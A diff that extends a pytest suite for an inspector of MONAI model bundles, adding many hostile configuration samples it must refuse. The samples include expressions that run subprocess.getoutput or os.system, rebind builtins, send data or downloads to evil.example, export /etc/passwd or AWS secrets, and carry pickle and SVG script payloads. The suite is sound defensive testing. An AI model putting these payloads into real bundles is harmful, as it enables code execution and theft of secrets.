@@ -9,23 +9,29 @@ import struct
 import subprocess
 import sys
 import time
+import tracemalloc
 import zipfile
 from collections.abc import Callable
+from inspect import signature
 from pathlib import Path
 from typing import Any
 
 import pytest
 import torch
+from monai import data, engines, handlers, inferers, networks, optimizers, transforms, utils
+from PIL import Image
 
 from cxr_monai.bundle.shipped import shipped_bundles
-from cxr_monai.errors import BundleError, Code
+from cxr_monai.errors import BundleError, Code, SharingError
+from cxr_monai.sharing import inspection
 from cxr_monai.sharing.allowlist import judge_callable, lists
 from cxr_monai.sharing.inspection import inspect
-from cxr_monai.sharing.remarks import Verdict
+from cxr_monai.sharing.pack import refuse_inspected
+from cxr_monai.sharing.remarks import Verdict, shortened
 from tests.sharing.zoo import CONFIGURATIONS
 
 SECONDS = 5.0
-"""An inspection of a small bundle takes less, whatever is in it."""
+"""Of a processor: an inspection of a small bundle takes less, whatever is in it."""
 
 
 @pytest.fixture(autouse=True)
@@ -122,6 +128,124 @@ CONFIGS: dict[str, Callable[[Path], dict[str, Any]]] = {
     "format of a text with dunders": lambda c: {"x": "$f'{torch.__builtins__}'"},
     "quotes closed by a reference": lambda c: {"x": "$'@or + " + touch(c) + " + @or'"},
     "carriage return": lambda c: {"x": f"$print(1)\r{touch(c)}"},
+    # names that are not yet bound where they are used
+    "comprehension of open": lambda c: {"x": f"$[{touch(c)} for open in [open]]"},
+    "comprehension of eval": lambda c: {"x": f"$[eval({touch(c)!r}) for eval in [eval]]"},
+    "dictionary of open": lambda c: {"x": "${k: 0 for open in [open] for k in [" + touch(c) + "]}"},
+    "comprehension of a hidden name": lambda c: {"x": "$[0 for _a in [1]]"},
+    "condition of a comprehension": lambda c: {"x": f"$[0 for exec in [exec] if exec({touch(c)!r})]"},
+    "nested comprehension": lambda c: {"x": "$[[vars for vars in [vars]]]"},
+    "default of a lambda": lambda c: {"x": f"$(lambda open=open: {touch(c)})()"},
+    "default of a keyword": lambda c: {"x": f"$(lambda *, eval=eval: eval({touch(c)!r}))()"},
+    "default under another name": lambda c: {"x": f"$(lambda f=open: f({str(c)!r}, 'w'))()"},
+    "comprehension that assigns to a module": lambda c: {"x": "$[0 for torch.device in [print]]"},
+    "comprehension that assigns to a reference": lambda c: {"y": 1, "x": "$[0 for @y in ['subprocess.getoutput']]"},
+    "comprehension that assigns to an item": lambda c: {"y": {}, "x": "$[0 for @y['a'] in [1]]"},
+    "import under a builtin's name": lambda c: {"imports": ["$from glob import glob as open"]},
+    "import under MONAI's name": lambda c: {"imports": ["$import os as np"], "x": f"$np.mean({str(c)!r})"},
+    # what MONAI calls by name
+    "reader by expression": lambda c: {"x": {"_target_": "LoadImage", "reader": "$'subprocess.getoutput'"}},
+    "reader by reference": lambda c: {"y": "os.system", "x": {"_target_": "LoadImage", "reader": "@y"}},
+    "reader by macro": lambda c: {"y": ["os.system"], "x": {"_target_": "LoadImage", "reader": "%y"}},
+    "reader in a list by macro": lambda c: {"y": "os.system", "x": {"_target_": "LoadImage", "reader": ["%y"]}},
+    "reader by overlay": lambda c: {"x#reader": "subprocess.getoutput"},
+    "reader by merge": lambda c: {"+x#reader": ["subprocess.getoutput"]},
+    "reader by its place": lambda c: {"x#reader#0": "subprocess.getoutput"},
+    "reader from a target": lambda c: {
+        "x": {"_target_": "LoadImage", "reader": {"_target_": "str", "object": "subprocess.getoutput"}}},
+    "reader's target by overlay": lambda c: {"x#reader#_target_": "str", "x#reader#object": "subprocess.getoutput"},
+    "reader in an expression": lambda c: {
+        "x": f"$monai.transforms.LoadImage(reader='subprocess.getoutput', cmd='touch {c}')"},
+    "reader by position": lambda c: {"x": f"$monai.transforms.LoadImage('subprocess.getoutput', cmd='touch {c}')"},
+    "loader under another name": lambda c: {
+        "imports": ["$import monai.transforms as mt"], "x": f"$mt.LoadImage('subprocess.getoutput', cmd='touch {c}')"},
+    "loader by import": lambda c: {"imports": ["$from monai.transforms import LoadImage as f"]},
+    "loader handed on": lambda c: {"imports": ["$import functools"], "x": "$functools.partial(monai.data.PILReader)"},
+    "loader kept": lambda c: {"x": {"_target_": "LoadImage", "_mode_": "callable"}, "y": "$@x('os.system')"},
+    "loader kept by overlay": lambda c: {"x#_mode_": "callable"},
+    "loader kept by merge": lambda c: {"+x": {"_mode_": "partial"}},
+    "loader in a kept place": lambda c: {
+        "y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}, "y#_target_": "LoadImage"},
+    "loader merged into a kept place": lambda c: {
+        "y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}, "+y": {"_target_": "LoadImage"}},
+    "reader of what is called later": lambda c: {"f": {}, "x": "$@f(reader=['os.' + 'system'])"},
+    "arguments behind two stars": lambda c: {"x": "$monai.data.decollate_batch(**dict([('rea' + 'der', 1)]))"},
+    "arguments behind a star": lambda c: {"x": "$print(*[1])"},
+    "writer by expression": lambda c: {"x": {"_target_": "SaveImage", "writer": "$'subprocess.getoutput'"}},
+    "merger": lambda c: {"x": {"_target_": "PatchInferer", "merger_cls": "subprocess.getoutput"}},
+    "encoders": lambda c: {"x": {"_target_": "FlexUNetEncoderRegister"}},
+    # files that are no configurations
+    "macro to a text": lambda c: {"x": "%docs/evil.json#x"},
+    "macro to a text by a key": lambda c: {"docs/evil.json": {"x": "%#y"}},
+    "macro with two files": lambda c: {"x": "%configs/inference.json/../../docs/evil.json#x"},
+    "macro to YAML": lambda c: {"x": "%docs/evil.yaml#x"},
+    "macro on a second line": lambda c: {"x": "%a\ndocs/evil.json#x"},
+    "macro to an import": lambda c: {"imports": ["$import os"], "x": "%imports#0"},
+    "macro to an import with a blank": lambda c: {"d": {"i": "$import os"}, "x": "%d# i"},
+    "macro to a macro": lambda c: {"x": "%a%#y"},
+    "macro of everything": lambda c: {"x": "%", "y": "%", "z": "%"},
+    # references that depend on their place
+    "relative reference to an import": lambda c: {"imports": ["$import os", "@#0"]},
+    "relative reference in an expression": lambda c: {
+        "1 or [0][" + touch(c) + " and 0": {"y": "%x"}, "x": "$[1][@#eval('1')]"},
+    "formatting that is a macro": lambda c: {"x": "$[7 %#y]"},
+    "reference to a merged import": lambda c: {"+imports": ["$import os"], "x": "$@imports#5.path"},
+    "MONAI's references by their name": lambda c: {"imports": ["$import os"], "x": "$__local_refs['imports::0']"},
+    "MONAI's references in other letters": lambda c: {
+        "imports": ["$import os"], "x": "$[__\uff4cocal_refs['imports::0']]"},
+    "builtin in other letters": lambda c: {"x": f"$\uff4fpen({str(c)!r}, 'w')"},
+    "our own by position": lambda c: {
+        "imports": ["$from cxr_monai.finetune.parent import start"], "x": "$start('evil', 'x', 'normal', True)"},
+    "tracking somewhere": lambda c: {"tracking_uri": "databricks"},
+    "a key within a key": lambda c: {"x": {"a#b": {"y": "%##z"}}},
+    "merged target": lambda c: {"+_target_": "subprocess.getoutput", "cmd": f"touch {c}"},
+    # arguments that run or load programs, whatever takes them
+    "allow_pickle": lambda c: {"x": {"_target_": "NumpyReader", "allow_pickle": True}},
+    "allow_pickle by expression": lambda c: {"x": {"_target_": "LoadImage", "allow_pickle": "$1 == 1"}},
+    "allow_pickle in an expression": lambda c: {"x": "$monai.data.decollate_batch(allow_pickle=True)"},
+    "allow_pickle by overlay": lambda c: {"x#allow_pickle": 1},
+    "weights_only": lambda c: {"x": {"_target_": "PersistentDataset", "weights_only": False}},
+    "pickle_module": lambda c: {"x": {"_target_": "PersistentDataset", "pickle_module": "dill"}},
+    "debug": lambda c: {"x": {"_target_": "DenseNet121", "_debug_": True}},
+    "trust_folder": lambda c: {"x": {"_target_": "cxr_monai.finetune.child.Child", "trust_folder": True}},
+    # downloads
+    "PerceptualLoss": lambda c: {"x": {"_target_": "PerceptualLoss"}},
+    "CSVDataset": lambda c: {"x": {"_target_": "CSVDataset", "src": "$'http' + '://evil.example'"}},
+    "Transchex": lambda c: {"x": {"_target_": "monai.networks.nets.Transchex"}},
+    "pretrained": lambda c: {"x": {"_target_": "resnet50", "pretrained": True}},
+    "pretrained by reference": lambda c: {"y": True, "x": {"_target_": "resnet50", "pretrained": "@y"}},
+    "pretrained unless told": lambda c: {"x": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0"}},
+    "pretrained unless told by overlay": lambda c: {"x#_target_": "EfficientNetBN"},
+    "pretrained by position": lambda c: {"x": "$monai.networks.nets.resnet50(True)"},
+    "pretrained_url": lambda c: {"x": {"_target_": "HoVerNet", "pretrained_url": "https://evil.example"}},
+    # what writes and connects
+    "remote tracking": lambda c: {"x": {"_target_": "MLFlowHandler", "tracking_uri": "https://evil.example"}},
+    "remote tracking by expression": lambda c: {"tracking_uri": "$'https:' + '//evil.example'"},
+    "artifacts": lambda c: {"x": {"_target_": "MLFlowHandler", "artifacts": ["/etc/passwd"]}},
+    "absolute place": lambda c: {"x": {"_target_": "SaveImage", "output_dir": str(c)}},
+    "place above": lambda c: {"x": {"_target_": "LogfileHandler", "output_dir": ".", "filename": "../../.bashrc"}},
+    "text of a log": lambda c: {"x": {"_target_": "LogfileHandler", "output_dir": ".", "formatter": f"touch {c}"}},
+    "folder elsewhere": lambda c: {"imports": ["$import os"], "x": f"$os.makedirs({str(c)!r})"},
+    "rendezvous": lambda c: {"x": "$torch.distributed.init_process_group('gloo', init_method='tcp://10.0.0.1:1')"},
+    "rendezvous by position": lambda c: {"x": "$torch.distributed.init_process_group('gloo', 'tcp://10.0.0.1:1')"},
+    "rendezvous handed on": lambda c: {"x": "$list(map(torch.distributed.init_process_group, ['gloo']))"},
+    "a table's eval": lambda c: {"y": 1, "x": "$@y.eval('@pd.compat.os.system(1)')"},
+    "a table's eval handed on": lambda c: {"y": 1, "x": "$list(map(@y.eval, ['1']))"},
+    "secrets of the environment": lambda c: {"imports": ["$import os"], "x": "$os.environ['AWS_SECRET_ACCESS_KEY']"},
+    # texts that reach attributes
+    "format in pieces": lambda c: {"y": 1, "x": "$('{0._' + '_init_' + '_}').format(@y)"},
+    "format of an attribute": lambda c: {"y": 1, "x": "$'{0.a}'.format(@y)"},
+    "format handed on": lambda c: {"y": 1, "x": "$list(map('{0.a}'.format, [@y]))"},
+    "format of a text": lambda c: {"x": "$str.format('{0.a}', 1)"},
+    # memory
+    "product": lambda c: {"x": "$[0] * 99999999 * 99999999"},
+    "wide text": lambda c: {"x": "$f'{1:99999999999}'"},
+    "computed width": lambda c: {"x": "$'%*d' % (99999999, 1)"},
+    "power of a name": lambda c: {"x": "$[x ** 9 for x in [9 ** 9]]"},
+    "2,000 references": lambda c: {"x": "$" + "".join(f"@a{number}" for number in range(2000))},
+    "400,000 references": lambda c: {"x": "$" + "".join(f"@a{number}" for number in range(400_000))},
+    "a path that no system takes": lambda c: {"x": "%" + "a" * 5000 + ".json"},
+    "half a letter": lambda c: {"x\ud800": "$open(1)"},
 }  # fmt: skip
 
 
@@ -132,12 +256,14 @@ def test_a_configuration_that_tries_to_run_something_is_refused_where_it_stands(
     added = CONFIGS[name](canary)
     own.pop("imports" if "imports" in added else "", None)
     (bundle / "configs" / "inference.json").write_text(json.dumps(own | added))
-    began = time.monotonic()
+    began = time.process_time()
     refused = inspect(bundle).refused
-    assert time.monotonic() - began < SECONDS
+    assert time.process_time() - began < SECONDS
     assert refused
     assert {remark.file for remark in refused} == {"configs/inference.json"}
-    assert {remark.where.split("#")[0] for remark in refused} <= {key.replace("::", "#").split("#")[0] for key in added}
+    assert {remark.where.split("#")[0] for remark in refused} <= {
+        shortened(key).replace("::", "#").split("#")[0] for key in added
+    }
     assert all(remark.reason.endswith(".") for remark in refused)
     assert not canary.exists()
 
@@ -158,6 +284,9 @@ RAW = {
     "a long number": b'{"x": ' + b"9" * 100_000 + b"}",
     "a string without an end": b'{"x": "' + b'\\"' * 1_000_000,
     "many strings without an end": b'"' + b'\\"' * 1_000_000 + b"\\",
+    "a key of 2,000 characters": b'{"' + b"a" * 2000 + b'": 1}',
+    "an id of 2,000 characters": b'{"' + b"a" * 600 + b'": {"' + b"b" * 600 + b'": 1}}',
+    "300,000 items": b'{"x": [' + b"1," * 300_000 + b"1]}",
     "5 MB": b'{"x": "' + b"a" * (5 << 20) + b'"}',
 }
 
@@ -165,9 +294,9 @@ RAW = {
 @pytest.mark.parametrize("name", RAW)
 def test_json_that_readers_may_understand_differently_or_not_at_all_is_refused(bundle: Path, name: str) -> None:
     (bundle / "configs" / "train.json").write_bytes(RAW[name])
-    began = time.monotonic()
+    began = time.process_time()
     (remark,) = inspect(bundle).refused
-    assert time.monotonic() - began < SECONDS
+    assert time.process_time() - began < SECONDS
     assert (remark.file, remark.kind) == ("configs/train.json", "json")
 
 
@@ -242,9 +371,9 @@ WEIGHTS: dict[str, Callable[[Path], bytes]] = {
 def test_weights_that_are_more_than_tensors_or_claim_more_than_there_is_are_refused(bundle: Path, name: str) -> None:
     canary = bundle.parent / "canary"
     (bundle / "models" / "model.pt").write_bytes(WEIGHTS[name](canary))
-    began = time.monotonic()
+    began = time.process_time()
     refused = inspect(bundle).refused
-    assert time.monotonic() - began < SECONDS
+    assert time.process_time() - began < SECONDS
     assert refused
     assert {remark.file for remark in refused} == {"models/model.pt"}
     assert not canary.exists()
@@ -289,6 +418,15 @@ def test_honest_safetensors_pass(bundle: Path) -> None:
         ("configs/logging.conf", "[handlers]\nkeys=a\n[handler_a]\nclass=StreamHandler\nargs=(open('/tmp/x','w'),)\n"),
         ("configs/logging.conf", "[handler_a]\nclass=os.system\nargs=('touch x',)\n"),
         ("configs/logging.conf", "no section"),
+        ("configs/logging.conf", "[a]\n" + "#" * 70_000 + "\n[handler_a]\nclass=os.system\nargs=('touch x',)\n"),
+        ("configs/logging.conf", "[formatter_a]\ndefaults={'x': open('/tmp/x', 'w')}\n"),
+        ("CONFIGS/train.json", '{"x": "$open(1)"}'),
+        ("docs/picture.png", "cos\nsystem\n(S'touch x'\ntR."),
+        ("docs/picture.jpg", "\x89PNG"),
+        ("docs/picture.svg", "no picture"),
+        ("docs/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+        ("docs/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        ("docs/text.md", "\x80\x04\x95\0\0"),
     ],
 )
 def test_code_and_what_python_would_evaluate_is_refused(bundle: Path, name: str, content: str) -> None:
@@ -297,6 +435,79 @@ def test_code_and_what_python_would_evaluate_is_refused(bundle: Path, name: str,
     refused = inspect(bundle).refused
     assert refused
     assert {remark.file for remark in refused} == {name}
+
+
+def test_pictures_that_are_pictures_pass(bundle: Path) -> None:
+    for suffix in ("png", "jpg", "jpeg"):
+        Image.new("L", (4, 4)).save(bundle / "docs" / f"picture.{suffix}")
+    (bundle / "docs" / "picture.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')
+    assert inspect(bundle).refused == ()
+
+
+@pytest.mark.parametrize(
+    ("other", "evil"),
+    [
+        # each half is harmless alone; MONAI merges them
+        ({"imports": ["$import os"]}, {"x": "@imports#0"}),
+        ({"y": {"z": "$import os"}}, {"x": "$[@y#z]"}),
+        ({"imports": ["$import glob as g"]}, {"imports": ["$import os as g"]}),
+        ({"y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}}, {"y#_target_": "LoadImage"}),
+    ],
+)
+def test_what_two_configurations_do_together_is_refused(bundle: Path, other: dict, evil: dict) -> None:
+    (bundle / "configs" / "inference.json").write_text("{}")
+    for name, alone in (("a", other), ("b", evil)):
+        (bundle / "configs" / f"{name}.json").write_text(json.dumps(alone))
+        assert inspect(bundle).refused == ()
+        (bundle / "configs" / f"{name}.json").unlink()
+    for name, alone in (("a", other), ("b", evil)):
+        (bundle / "configs" / f"{name}.json").write_text(json.dumps(alone))
+    assert {remark.file for remark in inspect(bundle).refused} >= {"configs/b.json"}
+
+
+def test_a_macro_may_read_another_configuration(bundle: Path) -> None:
+    (bundle / "configs" / "train.json").write_text('{"network_def": "%configs/inference.json#network_def"}')
+    assert inspect(bundle).refused == ()
+
+
+@pytest.mark.parametrize("text", ["$1 + 1", "$import os", "@network_def", "%network_def"])
+def test_metadata_resolves_nothing(bundle: Path, text: str) -> None:
+    (bundle / "configs" / "metadata.json").write_text(json.dumps({"version": "1", "x": [text]}))
+    assert [remark.where for remark in inspect(bundle).refused] == ["x#0"]
+
+
+@pytest.mark.parametrize("name", ["$1", "a#b"])
+def test_many_keys_and_long_ones_take_little(bundle: Path, name: str) -> None:
+    rows = {f"{name}{number}" if "#" in name else str(number): name for number in range(40_000)}
+    (bundle / "configs" / "train.json").write_text(json.dumps(rows))
+    tracemalloc.start()
+    began = time.process_time()
+    inspect(bundle)
+    assert time.process_time() - began < SECONDS * 2
+    assert tracemalloc.get_traced_memory()[1] < 128 << 20
+    tracemalloc.stop()
+
+
+def test_what_cannot_be_examined_is_refused(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def fail(*_: Any) -> None:
+        raise RecursionError("too deep")
+
+    monkeypatch.setattr(inspection, "_text", fail)
+    refused = inspect(bundle).refused
+    assert [(remark.file, remark.reason) for remark in refused] == [
+        ("docs/README.md", "it cannot be examined (RecursionError: too deep).")
+    ]
+
+
+def test_the_bundles_own_words_move_no_cursor(bundle: Path) -> None:
+    (bundle / "configs" / "train.json").write_text(json.dumps({"run\x1b[2J": "$open(1)", "\ud800": "$open(1)"}))
+    (bundle / "docs" / "a\x1b[2J.py").write_text("")
+    with pytest.raises(SharingError) as error:
+        refuse_inspected(bundle, bundle)
+    told = [f"{r.file}{r.where}{r.text}{r.reason}" for r in inspect(bundle).refused] + [str(error.value)]
+    assert len(told) == 4
+    assert all(text.isprintable() for text in told)
+    assert all(len(r.where) <= 160 for r in inspect(bundle).remarks)
 
 
 def test_a_plain_logging_configuration_passes(bundle: Path) -> None:
@@ -327,9 +538,9 @@ def test_configurations_as_the_model_zoo_writes_them_pass(bundle: Path, name: st
 
 @pytest.mark.parametrize("name", shipped_bundles())
 def test_our_own_bundles_pass(name: str) -> None:
-    inspection = inspect(shipped_bundles()[name])
-    assert inspection.refused == ()
-    assert any(remark.kind == "callable" and remark.text == "DenseNet121" for remark in inspection.remarks)
+    found = inspect(shipped_bundles()[name])
+    assert found.refused == ()
+    assert any(remark.kind == "callable" and remark.text == "DenseNet121" for remark in found.remarks)
 
 
 def test_weights_of_networks_in_training_pass(bundle: Path) -> None:
@@ -340,17 +551,30 @@ def test_weights_of_networks_in_training_pass(bundle: Path) -> None:
 
 def test_a_compiled_network_is_named_and_not_refused(bundle: Path) -> None:
     torch.jit.save(torch.jit.trace(torch.nn.Linear(2, 2), torch.zeros(1, 2)), bundle / "models" / "model.ts")
-    inspection = inspect(bundle)
-    assert inspection.refused == ()
-    assert [r.verdict for r in inspection.remarks if r.file == "models/model.ts"] == [Verdict.ATTENTION]
+    found = inspect(bundle)
+    assert found.refused == ()
+    assert [r.verdict for r in found.remarks if r.file == "models/model.ts"] == [Verdict.ATTENTION]
 
 
 def test_addresses_are_told_where_something_may_connect_to_them(bundle: Path) -> None:
-    config = {"x": {"_target_": "MLFlowHandler", "tracking_uri": "http://tracking.example:5000"}}
+    config = {"x": {"_target_": "MLFlowHandler", "tags": {"server": "http://tracking.example:5000"}}}
     (bundle / "configs" / "train.json").write_text(json.dumps(config))
-    inspection = inspect(bundle)
-    told = {(r.where, r.kind): r.verdict for r in inspection.remarks if r.verdict == Verdict.ATTENTION}
-    assert told == {("x#_target_", "callable"): "attention", ("x#tracking_uri", "address"): "attention"}
+    found = inspect(bundle)
+    assert found.refused == ()
+    told = {(r.where, r.kind): r.verdict for r in found.remarks if r.verdict == Verdict.ATTENTION}
+    assert told == {("x#_target_", "callable"): "attention", ("x#tags#server", "address"): "attention"}
+
+
+@pytest.mark.parametrize("uri", [None, "mlruns", "sqlite:///mlflow.db", "@tracking_uri"])
+def test_a_local_place_of_tracking_passes(bundle: Path, uri: str | None) -> None:
+    config = {"tracking_uri": None, "x": {"_target_": "MLFlowHandler", "tracking_uri": uri}}
+    (bundle / "configs" / "train.json").write_text(json.dumps(config))
+    assert inspect(bundle).refused == ()
+
+
+def test_what_writes_is_named_in_our_own_bundles() -> None:
+    told = {r.text for r in inspect(shipped_bundles()["cxr_nih14"]).remarks if r.verdict == Verdict.ATTENTION}
+    assert {"cxr_monai.training.tracking.Tracker", "cxr_monai.bundle.trained.TrainedBundle"} <= told
 
 
 def test_inspecting_imports_nothing_that_could_run_a_bundle(bundle: Path) -> None:
@@ -386,6 +610,9 @@ def test_no_folder_is_an_error(tmp_path: Path) -> None:
         ("os.path", "refused"),
         ("cxr_monai.labels.parse", "allowed"),
         ("cxr_monai.labels", "refused"),
+        ("monai.apps.DenseNet121", "refused"),
+        ("monai.losses.PerceptualLoss", "refused"),
+        ("cxr_monai.training.tracking.Tracker", "attention"),
     ],
 )
 def test_callables_are_judged_one_by_one(name: str, verdict: str) -> None:
@@ -398,3 +625,23 @@ def test_no_name_is_on_two_lists() -> None:
     assert allowed & known["attention"].keys() == set()
     assert allowed & known["refused"].keys() == set()
     assert known["attention"].keys() & known["refused"].keys() == set()
+
+
+def test_what_expressions_may_use_of_monai_is_listed_and_takes_no_dangerous_argument_by_position() -> None:
+    known = lists()
+    assert {*known["functions"], *known["pretrained"]} <= {*known["monai"]}
+    for name in known["functions"]:
+        found = next(getattr(part, name) for part in (data, engines, handlers, utils, networks, inferers, optimizers,
+                                                       transforms) if hasattr(part, name))  # fmt: skip
+        assert not {"pretrained", "reader", "allow_pickle", "pickle_module"} & signature(found).parameters.keys(), name
+
+
+def test_networks_that_download_by_default_are_listed() -> None:
+    assert {
+        name
+        for name in lists()["monai"]
+        if hasattr(networks.nets, name)
+        and callable(getattr(networks.nets, name))
+        and (default := signature(getattr(networks.nets, name)).parameters.get("pretrained")) is not None
+        and default.default is not False
+    } <= {*lists()["pretrained"]}
